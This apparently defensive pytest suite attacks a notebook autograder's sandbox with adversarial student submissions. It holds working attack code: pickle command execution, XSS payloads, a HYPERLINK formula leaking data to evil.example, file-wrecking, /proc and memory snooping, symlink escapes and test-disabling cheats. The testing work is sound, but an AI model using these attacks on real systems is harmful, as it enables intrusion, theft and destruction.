"""Students who attack the grader: a class of adversarial a1 hand-ins, graded in ONE real run.

``python -m cnnkit grade`` runs every student notebook in a bubblewrap sandbox and decides the test
verdicts in a separate, trusted process (``cnnkit.grading.sandbox``, ``cnnkit.grading.trusted``).
This module is the proof. One module-scoped fixture builds a temporary nbgrader course
(``nbgrader_config.py`` + ``solutions/``, released with ``nbgrader generate_assignment``) and hands
in a1_convolution for a class: controls (``honest``, ``untouched``, ``wrong``, ``conv2d_none``) and
attackers, each making ONE attack. Every ``attack_*`` helper below builds one hand-in; its
docstring says what a student would try. The fixture also plants canaries:

* ``instructor_secret.txt`` in the course root and in a fake instructor home (the grader's HOME);
* a canary file in a fake data-set cache, given to the grader as ``CNNKIT_DATA``;
* a canary environment variable ``CNNKIT_CANARY`` in the grader's environment;
* a TCP listener on 127.0.0.1 whose port only the ``network`` attacker is told;
* sha256 of every file under ``submitted/`` and ``solutions/``.

Then it runs the real command once, as a subprocess, for the whole class::

    python -m cnnkit grade a1_convolution --course COURSE --jobs 2 --cell-timeout 60 --timeout 600

and each test reads that one run (return code, output, ``grading_report_a1_convolution.csv``,
``grades.csv``, the files left behind, the processes left alive).

The module is skipped unless ``cnnkit.grading.sandbox.available()`` is true. Two environment
variables help when working on the grader:

* ``CNNKIT_ATTACKS_FORCE=1`` runs it anyway, against a grader with no usable sandbox, to check that
  the attacks are real (many tests then fail: that is the point). Without a sandbox some attacks
  stay within this run so the machine running the tests is not harmed: ``proc_snoop`` and
  ``hijack_kernel`` only look at processes carrying the grader's environment, ``poison_site``
  only writes its (harmless, comment-only, removed afterwards) ``.pth`` file into site-packages and
  the fake home, never into the checkout, and ``memory_bomb`` skips its growing allocation (and is
  left out entirely where ``vm.overcommit_memory`` is 1).

  Whatever the mode, ``available()`` only says bubblewrap works here, not that the grader really
  uses it, so the attacks that could hurt the machine look before they strike: ``kill_parent``
  sweeps (SIGKILL) only when no process outside a sandbox is in sight (else it notes what it could
  have killed in an evidence file outside the course), the growing allocation of ``memory_bomb``
  needs a memory limit in sight, the code ``hijack_kernel`` injects acts only in a kernel being
  graded, ``proc_snoop`` prints only canary-like variables, ``vandal``, ``self_grade`` and
  ``lurker`` never touch a folder holding ``.git`` or ``pyproject.toml`` (a real checkout), and
  every bomb is bounded in time.
* ``CNNKIT_ATTACKS_ONLY=name,name`` grades only these attackers (with the controls), to look at
  one attack at a time; the other attackers' tests are skipped. Against an unsandboxed grader this
  is how to see each attack: there ``vandal`` deletes every other student's autograded/ and
  feedback/ folders and truncates the gradebook, which hides what the others leaked.

Keep the run short: one grading run, 2 jobs, about 3 minutes on a 2-core machine.
"""
from __future__ import annotations

import csv
import hashlib
import html
import json
import os
import re
import secrets
import shutil
import signal
import site
import socket
import subprocess
import sys
import sysconfig
import textwrap
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest

nbformat = pytest.importorskip("nbformat")
from nbhelpers import nbg, regions, solved  # noqa: E402

REPO = Path(__file__).resolve().parents[1]
BIN = Path(sys.executable).parent
ASSIGNMENT = "a1_convolution"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
TIMESTAMP = "2026-11-20 10:00:00.000000 UTC"

#: Autograded points of a1 (the other 4 of its 30 are graded by hand).
AUTO_POINTS = 26.0
#: What the controls must score, autograded points only.
CONTROL_SCORES = {"honest": 26.0, "untouched": 0.0, "wrong": 11.0, "conv2d_none": 16.0,
                  "setup_moved_honest": 26.0, "setup_deleted_honest": 26.0, "tamper_metadata": 26.0}
#: Words the report may use for a submission stopped by a limit of the sandbox.
LIMIT_WORDS = ("resource limit", "kernel died", "timeout", "error")
#: The course's bounds in this run: the round-2 attacks are measured against them.
COURSE_BOUNDS = ("c.CnnkitGrader.memory_mb = 2048\nc.CnnkitGrader.scratch_mb = 64\n"
                 "c.CnnkitGrader.answer_mb = 64")
#: Seconds the fixture waits after the grader returns before it looks for processes left behind.
SETTLE_SECONDS = 3.0

FORCE = os.environ.get("CNNKIT_ATTACKS_FORCE") == "1"
#: The only variables of the test's own environment handed to the grader (plus PATH, HOME and the canaries).
ENV_KEPT = ("LANG", "LC_ALL", "TZ", "TMPDIR", "PYTHONPATH", "USER", "LOGNAME", "OMP_NUM_THREADS")

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("grading_attacks")]


def sandbox_state() -> tuple[bool, str]:
    """``(usable, reason)``: whether ``cnnkit.grading.sandbox`` exists and says it can run here.

    Written so that this module imports (and skips cleanly) while that API does not exist yet.
    """
    try:
        from cnnkit.grading import sandbox
    except Exception as exc:  # noqa: BLE001 - missing module, or one that fails to import
        return False, f"cnnkit.grading.sandbox cannot be imported ({exc!r}): the grader has no sandbox to attack"
    available = getattr(sandbox, "available", None)
    if not callable(available):
        return False, "cnnkit.grading.sandbox has no available() function"
    try:
        usable = available()
    except Exception as exc:  # noqa: BLE001
        return False, f"cnnkit.grading.sandbox.available() raised {exc!r}"
    if not usable:
        why = getattr(sandbox, "unavailable_reason", None)
        detail = why() if callable(why) else None
        return False, (f"no usable grading sandbox on this machine: cnnkit.grading.sandbox.available() returned "
                       f"{usable!r}" + (f" ({detail})" if detail else "") + "; set CNNKIT_ATTACKS_FORCE=1 to attack "
                       "the unsandboxed grader anyway")
    return True, ""


# ----------------------------------------------------------------------------------------- notebook helpers
def cell_by_id(nb, grade_id):
    for cell in nb.cells:
        if nbg(cell).get("grade_id") == grade_id:
            return cell
    raise KeyError(grade_id)


def replace_in_cell(nb, grade_id, old, new):
    cell = cell_by_id(nb, grade_id)
    assert old in cell.source, (grade_id, old)
    cell.source = cell.source.replace(old, new, 1)


def insert_code_after(nb, grade_id, code):
    index = next(i for i, c in enumerate(nb.cells) if nbg(c).get("grade_id") == grade_id)
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))


def insert_after_imports(nb, *codes: str):
    """New code cells right after the first code cell (the imports), before any function or test."""
    index = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    for offset, code in enumerate(codes, start=1):
        nb.cells.insert(index + offset, nbformat.v4.new_code_cell(code))


def append_code(nb, code: str):
    nb.cells.append(nbformat.v4.new_code_cell(code))


def code(template: str, **values) -> str:
    """A cell's source: ``template`` dedented, each ``__NAME__`` replaced by ``repr(values[name])``."""
    text = textwrap.dedent(template).strip() + "\n"
    for name, value in values.items():
        text = text.replace(f"__{name.upper()}__", repr(value))
    return text


@dataclass
class Kit:
    """What the hand-ins are built from: the source and release notebooks, and what an attacker is told."""

    source: object
    release: object
    port: int                 # the fixture's TCP listener on 127.0.0.1
    home: Path                # the instructor's home (the grader's HOME)
    data: Path                # the data-set cache (the grader's CNNKIT_DATA)
    evidence: Path            # outside the course: where kill_parent notes what it could kill (no sandbox only)
    marks: dict               # per-run marker words (not secrets) an attack leaves behind
    full_strength: bool       # a sandbox is claimed: attacks need not keep to this run's processes


# ----------------------------------------------------------------------------------------- controls
def honest(kit: Kit):
    """The model solution, typed in by a student: every autograded point."""
    return solved(kit.source, kit.release)


def untouched(kit: Kit):
    """The release handed back as it is: 0."""
    return nbformat.from_dict(kit.release)


def wrong(kit: Kit):
    """A plain wrong submission: correlate2d adds 1 everywhere, conv2d returns zeros of the right shape.

    The two size functions are right (4 points), and convolve2d and edge_strength are right on top of
    that correlate2d, so they are judged on it (one mistake, one loss: 3 + 4 points): 11 points. A
    conv2d of zeros gives its stride cell nothing to judge on, so both conv2d cells fail.
    """
    nb = solved(kit.source, kit.release)
    replace_in_cell(nb, "correlate2d", "return out", "return out + 1")
    replace_in_cell(nb, "conv2d", "return out", "return np.zeros_like(out)")
    return nb


def conv2d_none(kit: Kit):
    """The solution without conv2d (it returns None): 26 - 5 - 5 = 16 points."""
    nb = solved(kit.source, kit.release)
    cell_by_id(nb, "conv2d").source = (
        "def conv2d(x, w, b=None, stride=1, padding=0):\n"
        "    \"\"\"Not done yet.\"\"\"\n"
        "    return None\n")
    return nb


# ----------------------------------------------------------------------------------------- round 2 (issue 22)
#: Every graded function of a1 returning zeros of the right shape (or 0): what "no work" earns.
ZERO_FUNCTIONS = {
    "correlate2d": """
        import numpy as np
        def correlate2d(image, kernel):
            image, kernel = np.asarray(image), np.asarray(kernel)
            if (image.ndim != 2 or kernel.ndim != 2 or kernel.shape[0] > image.shape[0]
                    or kernel.shape[1] > image.shape[1]):
                raise ValueError("bad shapes")
            __ZAP__
            return np.zeros((image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1))
        """,
    "convolve2d": """
        def convolve2d(image, kernel):
            return correlate2d(image, kernel)
        """,
    "conv2d": """
        def conv2d(x, w, b=None, stride=1, padding=0):
            x, w = np.asarray(x), np.asarray(w)
            if x.ndim != 4 or w.ndim != 4 or x.shape[1] != w.shape[1]:
                raise ValueError("bad shapes")
            h = (x.shape[2] + 2 * padding - w.shape[2]) // stride + 1
            v = (x.shape[3] + 2 * padding - w.shape[3]) // stride + 1
            if h < 1 or v < 1:
                raise ValueError("kernel larger than the input")
            __ZAP4__
            return np.zeros((x.shape[0], w.shape[0], h, v))
        """,
    "sizes": """
        def conv_output_size(n, kernel_size, stride=1, padding=0):
            return 0
        def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
            return 0
        """,
    "edge_strength": """
        def edge_strength(image):
            image = np.asarray(image)
            __ZAP1__
            return np.zeros((image.shape[0] - 2, image.shape[1] - 2))
        """,
}


def _zeros_notebook(kit: Kit, zap: bool = False):
    nb = solved(kit.source, kit.release)
    for name, template in ZERO_FUNCTIONS.items():
        text = textwrap.dedent(template)
        text = text.replace("__ZAP__", "image[...] = 0; kernel[...] = 0" if zap else "pass")
        text = text.replace("__ZAP4__", "x[...] = 0; w[...] = 0" if zap else "pass")
        text = text.replace("__ZAP1__", "image[...] = 0" if zap else "pass")
        cell_by_id(nb, name).source = text.strip() + "\n"
    return nb


def zeros(kit: Kit):
    """Control: every function returns zeros of the right shape (the size formulas return 0)."""
    return _zeros_notebook(kit)


def _move_setup(nb, delete: bool = False):
    index = next(i for i, c in enumerate(nb.cells) if nbg(c).get("grade_id") == "setup")
    cell = nb.cells.pop(index)
    if not delete:
        nb.cells.append(cell)
    return nb


def setup_moved_honest(kit: Kit):
    """Control: the model solution with the read-only set-up cell moved, untouched, to the end: full marks."""
    return _move_setup(honest(kit))


def setup_deleted_honest(kit: Kit):
    """Control: the model solution with the set-up cell deleted: full marks, and the row says it was restored."""
    return _move_setup(honest(kit), delete=True)


def attack_setup_moved(kit: Kit):
    """Functions that return zeros, the set-up cell moved to the end (round 2: this earned 26)."""
    return _move_setup(zeros(kit))


def attack_setup_deleted(kit: Kit):
    """Functions that return zeros, the set-up cell deleted."""
    return _move_setup(zeros(kit), delete=True)


def attack_np_proxy(kit: Kit):
    """Functions that return zeros; ``np``, ``cnnkit`` and ``check`` rebound after set-up to proxies whose
    assertions do nothing (round 2: the grader re-fetched np from the kernel in every test: 26)."""
    nb = zeros(kit)
    insert_code_after(nb, "setup", code('''
        import numpy as _real_np
        class _NoTesting:
            def __getattr__(self, name):
                return lambda *args, **kwargs: None
        class _NumpyProxy:
            testing = _NoTesting()
            def __getattr__(self, name):
                return getattr(_real_np, name)
        np = _NumpyProxy()
        cnnkit = _NumpyProxy()
        check = lambda *a, **k: type("R", (), {"passed": True, "assert_passed": lambda self: None})()
        '''))
    return nb


def attack_zero_args(kit: Kit):
    """Functions that zero their array arguments in place, then return zeros: a reference computed
    afterwards on the same arrays sees zeros too if arguments are written back (round 2: 26)."""
    return _zeros_notebook(kit, zap=True)


FORGER = r'''
import json, os
import numpy as np
import cnnkit.grading.agent as _agent

_forgeries = [
    {"value": {"$module": "os", "$ref": 1}},
    {"value": {"$ref": 7, "type": ["builtins", "function"], "callable": True,
               "defined": ["cnnkit.grading.pipeline", "grade"]}},
    {"value": {"$module": "cnnkit.grading.pipeline"}},
    {"value": {"$ref": 8, "defined": ["os", "environ"]}},
    {"value": {"$ref": 9, "defined": ["linecache", "cache"]}},
    {"self": True},
    {"value": {"$array": 0}},
    {"raise": {"type": "SystemExit", "module": "builtins", "message": "bye"}},
]

class _Boom:
    def __reduce__(self):
        return (os.system, ("touch /tmp/__MARK__-pwned",))

def _serve(request_path, prefix):
    _serve.n = getattr(_serve, "n", 0) + 1
    with open(prefix + "-0.npy", "wb") as fh:
        np.save(fh, np.array([_Boom()], dtype=object), allow_pickle=True)
    with open(prefix + ".json", "w") as fh:
        json.dump(_forgeries[_serve.n % len(_forgeries)], fh)

_agent.serve = _serve

def _named(module, qualname):
    def f(*a, **k):
        return 0
    f.__module__, f.__qualname__, f.__name__ = module, qualname, qualname.rpartition(".")[2]
    return f
'''


def attack_forged_handles(kit: Kit):
    """The grading agent replaced: every answer names grader objects (os, the pipeline's grade, os.environ,
    linecache) by module and qualname, or carries a pickle that runs a command (round 2: code execution
    in the grading worker with the instructor's rights)."""
    nb = zeros(kit)
    insert_code_after(nb, "setup", FORGER.replace("__MARK__", kit.marks["forger"]))
    cell_by_id(nb, "correlate2d").source = (
        "def correlate2d(image, kernel):\n"
        "    return _named('cnnkit.grading.pipeline', 'grade')\n")
    return nb


def attack_big_answer(kit: Kit):
    """One answer of 192 MiB declared complex128, every time correlate2d is called (the course allows 64 MiB)."""
    nb = zeros(kit)
    cell_by_id(nb, "correlate2d").source = (
        "import numpy as np\n"
        "def correlate2d(image, kernel):\n"
        "    return np.zeros(192 * 2**20 // 16, dtype=np.complex128)\n")
    return nb


def attack_shm_fill(kit: Kit):
    """Writes to /dev/shm until it is full, and says how much it managed (the course bounds it at 64 MiB)."""
    nb = zeros(kit)
    insert_code_after(nb, "setup", code('''
        _written = 0
        try:
            with open("/dev/shm/fill", "wb") as _fh:
                for _ in range(2048):
                    _fh.write(b"x" * (1 << 20)); _fh.flush(); _written += 1 << 20
        except OSError:
            pass
        print("SHM-WROTE", _written)
        '''))
    return nb


def attack_channel_fill(kit: Kit):
    """Writes a 100 MiB file next to its kernel's sockets (its channel folder) and says where."""
    nb = zeros(kit)
    insert_code_after(nb, "setup", code('''
        import os, ipykernel.connect
        _channel = os.path.dirname(ipykernel.connect.get_connection_file())
        _path = os.path.join(_channel, "litter.bin")
        try:
            with open(_path, "wb") as _fh:
                for _ in range(100):
                    _fh.write(b"x" * (1 << 20))
        except OSError as _exc:
            print("could not write:", _exc)
        print("CHANNEL-LITTER", _path)
        '''))
    return nb


def attack_three_procs(kit: Kit):
    """Three processes that each hold 900 MiB at once (the course bounds a sandbox at 2 GiB in all)."""
    nb = zeros(kit)
    insert_code_after(nb, "setup", code('''
        import subprocess, sys
        _hog = "import numpy, time; a = numpy.ones(900 * 2**20 // 8); time.sleep(8); print('held')"
        _procs = [subprocess.Popen([sys.executable, "-c", _hog], stdout=subprocess.PIPE) for _ in range(3)]
        _held = sum(b"held" in p.communicate()[0] for p in _procs)
        print("HELD", _held)
        '''))
    return nb


# ----------------------------------------------------------------------------------------- round 3 (red team)
def attack_xss(kit: Kit):
    """HTML, JavaScript, SVG and Markdown outputs with script, for the instructor's browser (the formgrader
    renders graded notebooks): the red team's way to run JavaScript, then a shell, as the instructor."""
    nb = honest(kit)
    append_code(nb, code('''
        from IPython.display import HTML, Javascript, SVG, Markdown, display
        display(HTML("<script>window.__MARK__ = 1</script><img src=x onerror='window.__MARK__=2'>"))
        display(Javascript("window.__MARK__ = 3"))
        display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>window.__MARK__=4</script></svg>'))
        display(Markdown("<script>window.__MARK__ = 5</script>"))
        display({"text/html": "<script>window.__MARK__ = 6</script>", "text/plain": "plain"}, raw=True)
        ''', mark=kit.marks["xss"]).replace("'" + kit.marks["xss"] + "'", kit.marks["xss"]))
    return nb


def attack_logwrite(kit: Kit):
    """Writes through the sandbox's inherited file descriptors (its /proc/1/fd/1 was the worker's log)."""
    nb = honest(kit)
    append_code(nb, code('''
        import os
        for fd in ("0", "1", "2"):
            try:
                target = os.readlink("/proc/1/fd/" + fd)
            except OSError as exc:
                target = "unreadable"
            print("FD", fd, target)
            try:
                with open("/proc/1/fd/" + fd, "w") as fh:
                    fh.write("LOGWRITE\\n" * 1000)
            except OSError:
                pass
        '''))
    return nb


def attack_outflood(kit: Kit):
    """Five display outputs of 30 MB each (the grader keeps 16 MiB of output per notebook)."""
    nb = honest(kit)
    append_code(nb, code('''
        from IPython.display import display
        for _ in range(5):
            display({"text/plain": "x" * (30 * 2**20)}, raw=True)
        '''))
    return nb


def tamper_metadata(kit: Kit):
    """Control: the model solution with a test cell's nbgrader metadata edited (no longer graded, 500 points)
    and another test turned into markdown: restored from the release, full marks, and the row says so."""
    nb = honest(kit)
    cell = cell_by_id(nb, "test_conv_output_size")
    cell.metadata["nbgrader"]["grade"] = False
    cell.metadata["nbgrader"]["points"] = 500
    other = cell_by_id(nb, "test_conv_param_count")
    other.cell_type = "markdown"
    other.pop("outputs", None)
    other.pop("execution_count", None)
    return nb


def attack_pyc_orphan(kit: Kit):
    """Loads the compiled copy of a hidden module from __pycache__ (the stub hides only the .py)."""
    nb = honest(kit)
    append_code(nb, code('''
        import glob, importlib.util, marshal, os
        import cnnkit
        found = []
        for path in glob.glob(os.path.join(os.path.dirname(cnnkit.__file__), "**", "__pycache__", "*.pyc"),
                              recursive=True):
            if os.sep + "ops" + os.sep in path or "_geometry" in path:   # what a1 hides
                found.append(os.path.basename(path))
        print("PYC-FOUND", len(found), found[:5])
        '''))
    return nb


def attack_md_xss(kit: Kit):
    """Round 3 (the red team): script in the student's Markdown answer, which nbgrader's formgrader and
    feedback render with ``markdown2html`` and no cleaning: JavaScript in the instructor's browser."""
    nb = honest(kit)
    cell_by_id(nb, "q_corr_vs_conv").source = (
        "Symmetric kernels. <script>window.__MARK__ = 7</script><img src=x onerror=\"window.__MARK__=8\">"
        "<svg onload=\"window.__MARK__=9\"></svg> [more](javascript:window.__MARK__=10) "
        "[again](&#106;avascript:window.__MARK__=11) <![CDATA[ x ><img src=x onerror=\"window.__MARK__=12\"> ]]>"
        "\n\n<details open ontoggle=\"window.__MARK__=13\" ").replace("__MARK__", kit.marks["xss"])   # round 4
    cell_by_id(nb, "q_filters").source = "The box filter blurs; the Sobel filters find edges."   # plain: kept
    return nb


def attack_fake_status(kit: Kit):
    """Round 3: edits a test cell (tampering) and raises, in its own cells, an exception named like the grader's
    timeout and a MemoryError, so that the row reads 'resource limit' or 'timeout' and hides the tampering."""
    nb = wrong(kit)
    replace_in_cell(nb, "test_conv_output_size", "conv_output_size", "int")
    append_code(nb, "raise type('CellTimeoutError', (Exception,), {})('Cell execution timed out after 60 s')\n")
    append_code(nb, "raise MemoryError('Cannot allocate memory')\n")
    return nb


def attack_ts_fifo(kit: Kit):
    """Round 3: ``timestamp.txt`` is a link to a FIFO (the grader's read of it blocked the whole class)."""
    nb = honest(kit)

    def hand_in(folder: Path) -> None:
        nbformat.write(nb, folder / NOTEBOOK)
        (folder / "timestamp.txt").unlink()
        os.mkfifo(folder / "pipe")
        (folder / "timestamp.txt").symlink_to(folder / "pipe")
    return hand_in


def attack_ts_formula(kit: Kit):
    """Round 3: ``timestamp.txt`` holds a spreadsheet formula, copied into the instructor's report CSV."""
    nb = honest(kit)

    def hand_in(folder: Path) -> None:
        nbformat.write(nb, folder / NOTEBOOK)
        (folder / "timestamp.txt").write_text('=HYPERLINK("http://evil.example/?leak="&A2,"open")')
    return hand_in


# ----------------------------------------------------------------------------------------- the attacks
COURSE_FINDER = '''
import os
from pathlib import Path


def _protected(folder):
    """A real checkout (the machine running these tests): left alone, whatever the attack."""
    return (folder / ".git").exists() or (folder / "pyproject.toml").exists()


def _course_like(folder):
    return any((folder / name).exists() for name in
               ("nbgrader_config.py", "gradebook.db", "submitted", "autograded", "feedback", "solutions"))


def _reachable_courses():
    """Every folder above this notebook that looks like (part of) an nbgrader course."""
    here = Path(os.getcwd()).resolve()
    return [folder for folder in [here, *here.parents] if _course_like(folder) and not _protected(folder)]
'''


def attack_patch_testing(kit: Kit):
    """Wrong code, and the first cell turns numpy's checks into no-ops so every comparison "passes"."""
    nb = wrong(kit)
    insert_after_imports(nb, code('''
        import numpy.testing
        import numpy.testing._private.utils as _np_utils


        def _fine(*args, **kwargs):
            return None


        for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
                      "assert_almost_equal"):
            setattr(np.testing, _name, _fine)
            setattr(_np_utils, _name, _fine)
        np.allclose = lambda *args, **kwargs: True
        print("numpy.testing now agrees with everything")
    '''))
    return nb


def attack_null_forbid(kit: Kit):
    """Switch off the integrity guard (forbid / CallRecorder become null context managers) and hand
    correlate2d, convolve2d, conv2d and edge_strength to the kit's reference ``cnnkit.ops``.

    The two size functions are written honestly with plain arithmetic: at most those 4 points.
    """
    nb = solved(kit.source, kit.release)
    cell_by_id(nb, "correlate2d").source = code('''
        import cnnkit.integrity


        class _LetEverythingThrough:
            """Stands in for integrity.forbid and CallRecorder: watches nothing, never complains."""

            calls = []
            tampered = False
            clean = True

            def __init__(self, *args, **kwargs):
                pass

            def __enter__(self):
                return self

            def __exit__(self, *exc_info):
                return False

            def report(self, limit=5):
                return "no calls"


        cnnkit.integrity.forbid = _LetEverythingThrough
        cnnkit.integrity.CallRecorder = _LetEverythingThrough
        cnnkit.integrity.call_clean = lambda func, *args, **kwargs: func(*args, **kwargs)


        def correlate2d(image, kernel):
            from cnnkit import ops
            return ops.correlate2d(image, kernel)
    ''')
    cell_by_id(nb, "convolve2d").source = code('''
        def convolve2d(image, kernel):
            from cnnkit import ops
            return ops.convolve2d(image, kernel)
    ''')
    cell_by_id(nb, "conv2d").source = code('''
        def conv2d(x, w, b=None, stride=1, padding=0):
            from cnnkit import ops
            out = ops.conv2d(x, w, b, stride=stride, padding=padding)
            return out[0] if isinstance(out, tuple) else out
    ''')
    cell_by_id(nb, "edge_strength").source = code('''
        def edge_strength(image):
            from cnnkit import ops
            return np.hypot(ops.correlate2d(image, filters.sobel_x()), ops.correlate2d(image, filters.sobel_y()))
    ''')
    return nb


def attack_read_solutions(kit: Kit):
    """Find the instructor's solutions notebook at run time (above the cwd, above sys.path and the kit,
    through /proc/*/cwd, a bounded search of the whole disk), exec its solution code, and print it
    so the feedback shows it. Where nothing is found, nothing is defined: 0.
    """
    nb = nbformat.from_dict(kit.release)
    cell_by_id(nb, "correlate2d").source = code('''
        import glob
        import json
        import os
        import sys
        import time
        from pathlib import Path

        WANTED = Path("solutions") / "a1_convolution" / "a1_convolution.ipynb"


        def _starts():
            yield os.getcwd()
            yield from sys.path
            yield os.environ.get("HOME", "")
            yield os.environ.get("PWD", "")
            try:
                import cnnkit
                yield os.path.dirname(cnnkit.__file__)
            except Exception:
                pass
            for link in glob.glob("/proc/[0-9]*/cwd"):
                yield link  # works as a path even where readlink is refused
                try:
                    yield os.readlink(link)
                except OSError:
                    pass


        def _find_solutions():
            for start in _starts():
                if not start:
                    continue
                folder = Path(start)
                for above in [folder, *folder.parents]:
                    try:
                        if (above / WANTED).is_file():
                            return above / WANTED
                    except OSError:
                        pass
            deadline = time.monotonic() + 8  # then the whole disk, as far as 8 seconds go
            for top, dirs, files in os.walk("/"):
                if time.monotonic() > deadline or top.count(os.sep) > 9 or top in ("/proc", "/sys", "/dev"):
                    dirs[:] = []
                    continue
                if top.endswith(os.path.join("solutions", "a1_convolution")):
                    for name in files:
                        if name.endswith(".ipynb"):
                            return Path(top) / name
            return None


        _found = _find_solutions()
        STOLEN = {}
        if _found is not None:
            for _cell in json.loads(_found.read_text())["cells"]:
                _meta = _cell.get("metadata", {}).get("nbgrader", {})
                if _meta.get("solution") and _cell["cell_type"] == "code":
                    _src = _cell["source"]
                    STOLEN[_meta["grade_id"]] = "".join(_src) if isinstance(_src, list) else _src
        print("solutions found at", _found)
        print(STOLEN.get("conv2d", "no conv2d solution found"))
        exec(STOLEN.get("correlate2d", ""))
    ''')
    for grade_id in ("convolve2d", "conv2d", "sizes", "edge_strength"):
        cell_by_id(nb, grade_id).source = f"exec(STOLEN.get({grade_id!r}, ''))\n"
    return nb


def attack_vandal(kit: Kit):
    """Walk up from the cwd and wreck the course: delete every other student's folder under any
    submitted/, autograded/, feedback/, truncate every gradebook (*.db) in reach, delete solutions/.
    Implements nothing itself.
    """
    nb = nbformat.from_dict(kit.release)
    insert_after_imports(nb, COURSE_FINDER + code('''
        import shutil

        ME = "vandal"
        damage = []
        for root in _reachable_courses():
            for top, dirs, files in os.walk(root):
                top = Path(top)
                if _protected(top) or len(top.relative_to(root).parts) > 7:
                    dirs[:] = []
                    continue
                if top.name == "solutions":
                    shutil.rmtree(top, ignore_errors=True)
                    damage.append(f"deleted {top}")
                    dirs[:] = []
                    continue
                if top.name in ("submitted", "autograded", "feedback"):
                    for other in [d for d in dirs if d != ME]:
                        shutil.rmtree(top / other, ignore_errors=True)
                        damage.append(f"deleted {top / other}")
                    dirs[:] = [d for d in dirs if d == ME]
                for name in files:
                    if name.endswith(".db"):
                        try:
                            with open(top / name, "r+b") as fh:
                                fh.truncate(0)
                            damage.append(f"truncated {top / name}")
                        except OSError as exc:
                            damage.append(f"could not truncate {top / name}: {exc}")
        print(len(damage), "things destroyed")
        print("\\n".join(damage[:60]))
    '''))
    return nb


def attack_env_leak(kit: Kit):
    """Print the kernel's environment, and save it in a file next to the notebook (hoping the file
    comes back with the feedback)."""
    nb = nbformat.from_dict(kit.release)
    insert_after_imports(nb, code('''
        import json
        import os

        print(json.dumps(dict(os.environ), indent=1, sort_keys=True))
        with open("environment_of_the_grader.txt", "w") as fh:
            for key, value in sorted(os.environ.items()):
                fh.write(f"{key}={value}\\n")
    '''))
    return nb


def attack_proc_snoop(kit: Kit):
    """Read what /proc shows of other processes: /proc/1 and the parent's environ and cmdline, the
    parent's memory, every /proc/*/environ, and where every process's cwd and root lead; print it.
    (Of the environments only canary-like variables are printed: that is what the test looks for,
    and no real secret of the machine running the tests ends up in a file.) Implements nothing.
    """
    nb = nbformat.from_dict(kit.release)
    insert_after_imports(nb, code('''
        import glob
        import os
        import re


        def _read(path, limit=1 << 16):
            try:
                with open(path, "rb") as fh:
                    return fh.read(limit).replace(b"\\0", b" ").decode(errors="replace")
            except Exception as exc:
                return f"<{type(exc).__name__}: {exc}>"


        THIS_RUN_ONLY = __THIS_RUN_ONLY__  # no sandbox: look only at this grading run's processes


        def _ours(entry):
            return not THIS_RUN_ONLY or "CNNKIT_CANARY=" in _read(entry + "/environ")


        _interesting = re.compile(r"[A-Za-z_]*CANARY[A-Za-z_]*=\\S+")
        parent = os.getppid()
        print("parent:", parent)
        for entry in ["/proc/1", f"/proc/{parent}"]:
            if _ours(entry):
                print(entry + "/environ:", sorted(set(m.group(0) for m in _interesting.finditer(_read(entry + "/environ")))))
                print(entry + "/cmdline:", _read(entry + "/cmdline"))
        for entry in sorted(e for e in glob.glob("/proc/[0-9]*") if _ours(e)):
            print(entry, "environ:", sorted(set(m.group(0) for m in _interesting.finditer(_read(entry + "/environ")))))
            for kind in ("cwd", "root"):
                try:
                    target = os.readlink(f"{entry}/{kind}")
                    listing = sorted(os.listdir(f"{entry}/{kind}"))[:30]
                except OSError as exc:
                    target, listing = f"<{exc}>", []
                print(entry, kind, "->", target, listing)
        found = set()
        try:
            if not _ours(f"/proc/{parent}"):
                raise PermissionError("not this run's process")
            with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb", 0) as mem:
                budget = 256 << 20
                for line in maps:
                    span, perms = line.split()[:2]
                    if not perms.startswith("rw") or budget <= 0:
                        continue
                    start, end = (int(v, 16) for v in span.split("-"))
                    size = min(end - start, budget, 64 << 20)
                    budget -= size
                    try:
                        mem.seek(start)
                        chunk = mem.read(size)
                    except (OSError, OverflowError, ValueError):
                        continue
                    found |= {m.group(0).decode(errors="replace")
                              for m in re.finditer(rb"[A-Za-z_]*CANARY[A-Za-z_]*=[\\x21-\\x7e]{1,80}", chunk)}
            print("parent memory:", sorted(found)[:40])
        except Exception as exc:
            print("parent memory unreadable:", repr(exc))
    ''', this_run_only=not kit.full_strength))
    return nb


def attack_symlink_escape(kit: Kit):
    """Hand in symlinks next to the notebook (``escape -> /``, ``up -> ../../..``, ``peer -> the honest
    student's folder``, and file links to the instructor's secrets, which a copy would follow), then
    read ``instructor_secret.txt`` by every route and write into the honest student's hand-in.
    """
    nb = nbformat.from_dict(kit.release)
    insert_after_imports(nb, code('''
        import os
        from pathlib import Path

        INSTRUCTOR_HOME = __HOME__   # known from the course's set-up guide, say
        here = Path.cwd()
        routes = ["up/instructor_secret.txt", "secret_link.txt", "home_secret.txt",
                  f"escape{INSTRUCTOR_HOME}/instructor_secret.txt", f"{INSTRUCTOR_HOME}/instructor_secret.txt",
                  os.path.expanduser("~/instructor_secret.txt")]
        for folder in [here, *here.parents]:
            routes += [f"{folder}/instructor_secret.txt", f"escape{folder}/instructor_secret.txt",
                       f"{folder}/submitted/symlink_escape/a1_convolution/up/instructor_secret.txt",
                       f"{folder}/submitted/symlink_escape/a1_convolution/secret_link.txt"]
        for route in routes:
            try:
                print(route, "->", Path(route).read_text()[:200])
            except OSError as exc:
                print(route, "->", type(exc).__name__)

        peers = ["peer"] + [f"{folder}/{sub}" for folder in [here, *here.parents]
                            for sub in ("submitted/symlink_escape/a1_convolution/peer", "submitted/honest/a1_convolution")]
        for peer in peers:
            try:
                Path(peer, "a1_convolution.ipynb").write_text("{}")
                Path(peer, "timestamp.txt").write_text("2020-01-01 00:00:00.000000 UTC")
                print("wrote into", peer)
            except OSError as exc:
                print("could not write into", peer, type(exc).__name__)
    ''', home=str(kit.home)))

    def hand_in(folder: Path) -> None:
        nbformat.write(nb, folder / NOTEBOOK)
        os.symlink("/", folder / "escape")
        os.symlink("../../..", folder / "up")
